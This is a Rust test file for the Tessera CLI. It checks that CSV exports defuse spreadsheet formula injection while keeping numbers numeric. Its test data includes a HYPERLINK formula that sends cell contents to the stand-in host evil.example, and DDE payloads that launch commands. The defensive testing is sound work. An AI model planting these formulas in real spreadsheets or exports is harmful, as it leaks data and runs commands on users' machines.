//! Formula injection (OWASP "CSV Injection"): names from CRM exports and GeoJSON files go out
//! in every CSV Tessera writes, so a cell a spreadsheet would run (`=`, `+`, `-`, `@`, tab,
//! carriage return) gets a leading apostrophe, numbers stay numeric, and Tessera reads its
//! own output back to the same names. Each writer is checked: `export --csv`, `route`,
//! `compare --moves`, and the CSV formats of `report` and `compare`.

use std::path::{Path, PathBuf};
use std::process::Output;

use tessera::model::Accounts;
use tessera::store::ProjectFile;

mod cli_support;
use cli_support::{s, tessera};

/// Names an attacker would put in a CRM export or a GeoJSON file.
const HOSTILE: [&str; 7] = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Details\")",
    "+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
];

fn ok(out: Output) -> Output {
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    out
}

/// The demo project with hostile names: the first accounts (name and external id), the
/// territories of the plan and the reps.
fn hostile_project(dir: &Path) -> PathBuf {
    let mut project = tessera::demo::project().expect("demo");
    let old = &project.accounts;
    let mut accounts = Accounts::with_capacity(old.len());
    for i in 0..old.len() {
        let mut a = old.get(i);
        if let Some(h) = HOSTILE.get(i) {
            a.name = (*h).to_owned();
            a.external_id = format!("{h}#{i}");
        }
        accounts.push(&a);
    }
    project.accounts = accounts;
    for (k, t) in project.scenarios[0].territories.iter_mut().enumerate() {
        t.name = HOSTILE[k].to_owned();
    }
    for (k, r) in project.reps.iter_mut().enumerate() {
        r.name = HOSTILE[(k + 3) % HOSTILE.len()].to_owned();
    }
    let path = dir.join("hostile.tessera");
    ProjectFile::create(&path, &project).expect("write the project");
    path
}

/// The cells of a CSV text; fails if any cell would run as a formula in a spreadsheet.
fn defused_cells(bytes: &[u8], what: &str) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(bytes);
    let mut rows = Vec::new();
    for record in reader.records() {
        let record = record.unwrap_or_else(|e| panic!("{what}: not CSV: {e}"));
        for cell in &record {
            if matches!(
                cell.bytes().next(),
                Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r')
            ) {
                assert!(
                    cell.replace(',', ".").parse::<f64>().is_ok(),
                    "{what}: {cell:?} would run as a formula"
                );
            }
        }
        rows.push(record.iter().map(str::to_owned).collect());
    }
    rows
}

/// Whether some cell is the hostile name with one apostrophe before it.
fn holds_defused(rows: &[Vec<String>], name: &str) -> bool {
    let expected = format!("'{name}");
    rows.iter().flatten().any(|c| *c == expected)
}

#[test]
fn assignments_report_and_comparison_csv_are_defused_and_numbers_stay_numbers() {
    let dir = tempfile::tempdir().expect("tempdir");
    let project = hostile_project(dir.path());
    let p = s(&project);

    // export --csv: external ids, account names, territories and reps.
    let csv_path = dir.path().join("assignments.csv");
    let geojson = dir.path().join("plan.geojson");
    ok(tessera(&[
        "export",
        p,
        "--csv",
        s(&csv_path),
        "--geojson",
        s(&geojson),
    ]));
    let rows = defused_cells(&std::fs::read(&csv_path).expect("read"), "export --csv");
    for (i, h) in HOSTILE.iter().enumerate() {
        assert!(holds_defused(&rows, h), "export --csv: {h:?} not defused");
        let id = format!("'{h}#{i}");
        assert!(
            rows.iter().any(|r| r.first() == Some(&id)),
            "external id {id:?}"
        );
    }

    // report --format csv: territory and rep names; metrics as plain numbers.
    let out = ok(tessera(&["report", p, "--format", "csv"]));
    let rows = defused_cells(&out.stdout, "report --format csv");
    for h in &HOSTILE[..4] {
        assert!(
            holds_defused(&rows, h),
            "report: territory {h:?} not defused"
        );
    }
    assert!(rows[1][2].parse::<u64>().is_ok(), "accounts stay a number");

    // compare: plan B is the plan's shapes without reps, so every rep loses all its
    // accounts (negative differences) and every account changes hands.
    // Plan B: the same areas without their reps (the import reads them back since the round
    // trip keeps reps), so that every account changes hands and is in the moves list.
    let mut plan: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&geojson).expect("read")).expect("GeoJSON");
    for feature in plan["features"].as_array_mut().expect("features") {
        if let Some(properties) = feature["properties"].as_object_mut() {
            properties.remove("rep");
        }
    }
    std::fs::write(&geojson, plan.to_string()).expect("write");
    ok(tessera(&[
        "import",
        p,
        "--territories",
        s(&geojson),
        "--scenario",
        "B",
    ]));
    let moves = dir.path().join("moves.csv");
    let out = ok(tessera(&[
        "compare",
        p,
        "--a",
        "Current plan",
        "--b",
        "B",
        "--format",
        "csv",
        "--moves",
        s(&moves),
    ]));
    let rows = defused_cells(&out.stdout, "compare --format csv");
    for h in &HOSTILE[..4] {
        assert!(holds_defused(&rows, h), "compare: {h:?} not defused");
    }
    let negatives: Vec<&String> = rows
        .iter()
        .flatten()
        .filter(|c| c.starts_with('-') && c.parse::<f64>().is_ok_and(|v| v < 0.0))
        .collect();
    assert!(
        !negatives.is_empty(),
        "negative differences stay plain numbers"
    );
    assert!(
        !rows
            .iter()
            .flatten()
            .any(|c| c.starts_with("'-") && c[2..].parse::<f64>().is_ok()),
        "no number is quoted"
    );
    let rows = defused_cells(&std::fs::read(&moves).expect("read"), "compare --moves");
    for h in &HOSTILE {
        assert!(holds_defused(&rows, h), "moves: {h:?} not defused");
    }
}

#[test]
fn routed_leads_are_defused_and_read_back_to_the_same_names() {
    let dir = tempfile::tempdir().expect("tempdir");
    let project_path = hostile_project(dir.path());
    let project = ProjectFile::open(&project_path).expect("open").1;

    // Leads with hostile names, a hostile extra column and a negative number, placed where
    // the plan's first accounts are (inside its territories).
    let leads = dir.path().join("leads.csv");
    let mut w = csv::Writer::from_path(&leads).expect("create");
    w.write_record(["external_id", "name", "lat", "lon", "delta", "@note"])
        .expect("write");
    for (i, h) in HOSTILE.iter().enumerate() {
        w.write_record([
            format!("L{i}"),
            (*h).to_owned(),
            project.accounts.lats()[i].to_string(),
            project.accounts.lons()[i].to_string(),
            "-12.5".to_owned(),
            format!("+{i}cmd"),
        ])
        .expect("write");
    }
    w.flush().expect("flush");
    drop(w);

    let routed = dir.path().join("routed.csv");
    ok(tessera(&[
        "route",
        "--accounts",
        s(&leads),
        "--project",
        s(&project_path),
        "--out",
        s(&routed),
    ]));
    let rows = defused_cells(&std::fs::read(&routed).expect("read"), "route");
    assert_eq!(rows[0][5], "'@note", "headers are cells too");
    for h in &HOSTILE {
        assert!(holds_defused(&rows, h), "route: {h:?} not defused");
    }
    assert!(
        rows[1..].iter().all(|r| r[4] == "-12.5"),
        "a negative number passes through as it was"
    );

    // Read back: the routed file imported as accounts gives the very same names, and a new
    // export of them is defused again (the apostrophe is not doubled, nor lost).
    let fresh = dir.path().join("fresh.tessera");
    ok(tessera(&["demo", s(&fresh)]));
    ok(tessera(&["import", s(&fresh), "--accounts", s(&routed)]));
    let back = ProjectFile::open(&fresh).expect("open").1;
    let names: Vec<&str> = (0..back.accounts.len())
        .map(|i| back.accounts.name(i))
        .collect();
    for h in &HOSTILE {
        assert!(names.contains(h), "{h:?} did not read back: {names:?}");
    }
    let again = dir.path().join("again.csv");
    ok(tessera(&["export", s(&fresh), "--csv", s(&again)]));
    let rows = defused_cells(&std::fs::read(&again).expect("read"), "export again");
    for h in &HOSTILE {
        assert!(holds_defused(&rows, h), "second export: {h:?}");
    }
}

#[test]
fn the_bad_file_of_formula_cells_routes_defused() {
    let dir = tempfile::tempdir().expect("tempdir");
    let demo = dir.path().join("demo.tessera");
    ok(tessera(&["demo", s(&demo)]));
    let bad =
        Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/hostile/formula-injection.csv");
    let out = ok(tessera(&[
        "route",
        "--accounts",
        s(&bad),
        "--project",
        s(&demo),
    ]));
    let rows = defused_cells(&out.stdout, "route to standard output");
    assert!(holds_defused(
        &rows,
        "=HYPERLINK(\"http://evil.example\",\"click\")"
    ));
    assert!(holds_defused(&rows, "\r=1+1"));
    assert!(rows.iter().flatten().any(|c| c == "-3.25"), "numbers stay");
}
